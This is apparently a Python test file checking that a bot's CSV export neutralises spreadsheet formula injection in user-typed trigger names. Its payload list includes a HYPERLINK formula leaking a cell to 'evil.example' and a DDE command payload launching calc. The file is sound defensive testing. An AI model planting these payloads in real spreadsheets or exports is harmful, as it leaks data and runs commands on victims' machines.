"""/export opens safely in a spreadsheet: no text a person typed comes out as a live formula (OWASP, "CSV
Injection"), while the numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time

from hypothesis import given
from hypothesis import strategies as st

from bot.core.checkins import own_factor
from bot.store import CheckinView, PersonData, SubscriberView, TriggerView
from bot.text.export import export_csv
from bot.text.i18n import texts

CHAT_ID = 4101
ADDED = datetime(2026, 11, 1, 20, 0, tzinfo=UTC)
# Payloads from the hostile review and the OWASP page, one per character a spreadsheet reads as a formula.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def person(trigger_names: list[str], zone_name: str | None = "Europe/Berlin") -> PersonData:
    """A person with these triggers (all ticked on one night scored 6) and ordinary settings."""
    triggers = [
        TriggerView(id=index, name=name, active=True, created_at_utc=ADDED)
        for index, name in enumerate(trigger_names, 1)
    ]
    factors = frozenset({"caffeine", *(trigger.factor for trigger in triggers)})
    subscriber = SubscriberView(
        chat_id=CHAT_ID,
        reminders_on=True,
        blocked=False,
        zone_name=zone_name,
        local_reminder_time=time(21, 0),
        next_due_at_utc=None,
        checkin_on=True,
        local_checkin_time=time(8, 0),
        next_checkin_at_utc=None,
        weekly_day=6,
        language="en",
        tip_topics=None,
    )
    return PersonData(
        subscriber=subscriber,
        checkins=[CheckinView(night=date(2026, 11, 24), score=6, factors=factors)],
        triggers=triggers,
        deliveries=[],
        broadcasts_received=[],
        selfchecks=[],
    )


def cells(data: PersonData) -> list[dict[str, str]]:
    """The export as a spreadsheet program reads it: UTF-8 with a byte-order mark, parsed by a CSV reader."""
    text = export_csv(texts("en"), data).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def formula_cells(rows: list[dict[str, str]]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]


def test_trigger_names_that_look_like_formulas_are_quoted_in_every_cell() -> None:
    rows = cells(person(list(FORMULAS[:3])))

    assert formula_cells(rows) == []
    names = [row["name"] for row in rows if row["record"] == "trigger"]
    assert names == [f"'{name}" for name in FORMULAS[:3]]  # the text itself is kept, only made inert
    [checkin] = [row for row in rows if row["record"] == "checkin"]
    # The factors cell starts with a built-in factor here; alone, an own trigger would start it (next test).
    assert checkin["factors"] == "caffeine; " + "; ".join(FORMULAS[:3])


def test_a_factors_cell_that_starts_with_a_trigger_name_is_quoted_too() -> None:
    for payload in FORMULAS:
        data = person([payload])
        only_own = CheckinView(night=date(2026, 11, 24), score=6, factors=frozenset({own_factor(1)}))
        rows = cells(PersonData(data.subscriber, [only_own], data.triggers, [], [], []))

        assert formula_cells(rows) == [], payload
        [checkin] = [row for row in rows if row["record"] == "checkin"]
        assert checkin["factors"] == f"'{payload}"


def test_scores_and_ids_stay_numbers_and_plain_text_is_untouched() -> None:
    rows = cells(person(["late dinner"], zone_name="UTC-03:00"))

    [checkin] = [row for row in rows if row["record"] == "checkin"]
    assert checkin["score"] == "6"
    settings = {row["name"]: row["value"] for row in rows if row["record"] == "setting"}
    assert settings["chat_id"] == str(CHAT_ID)
    assert settings["reminder_time"] == "21:00"
    assert [row["name"] for row in rows if row["record"] == "trigger"] == ["late dinner"]


# Any text a person can send (lone surrogates cannot reach the database: they are not UTF-8).
TYPED_TEXT = st.text(st.characters(codec="utf-8"), min_size=1, max_size=40)


@given(st.lists(TYPED_TEXT, min_size=1, max_size=3))
def test_no_trigger_name_whatever_its_text_opens_as_a_formula(names: list[str]) -> None:
    rows = cells(person(names))

    assert formula_cells(rows) == []
    # Every name survives whole, with one quote in front when it would have started a formula.
    exported = [row["name"] for row in rows if row["record"] == "trigger"]
    assert exported == [f"'{name}" if name.startswith(FORMULA_STARTS) else name for name in names]
